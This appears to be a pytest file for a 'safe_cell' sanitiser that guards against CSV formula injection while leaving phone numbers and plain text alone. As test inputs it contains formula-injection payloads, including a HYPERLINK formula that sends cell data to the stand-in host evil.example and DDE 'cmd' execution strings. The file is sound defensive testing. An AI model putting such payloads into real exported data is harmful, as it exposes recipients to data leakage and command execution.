"""`safe_cell`: what a spreadsheet would run as a formula is written as text (OWASP CSV
injection); phone numbers and plain text are written as they are."""

from __future__ import annotations

import pytest

from callerid.ingest import safe_cell


@pytest.mark.parametrize(
    "cell",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+A1",
        "-x",
        "\t=1+2",
        "\r=1+2",
        "+1 415 555 2671 ext 9",
        " =1+2",
        "  @SUM(A1)",
        "\n=1+2",
    ],
)
def test_formulas_are_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "+14155550123",
        "+1 (415) 555-0123",
        "+44 20 7946.0958",
        "-5",
        "-",
        "+",
        "Ada Lovelace",
        "4155550123",
        "a=b",
        "'=already text",
        " +1 415 555 0123 ",
        "   ",
    ],
)
def test_everything_else_is_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell
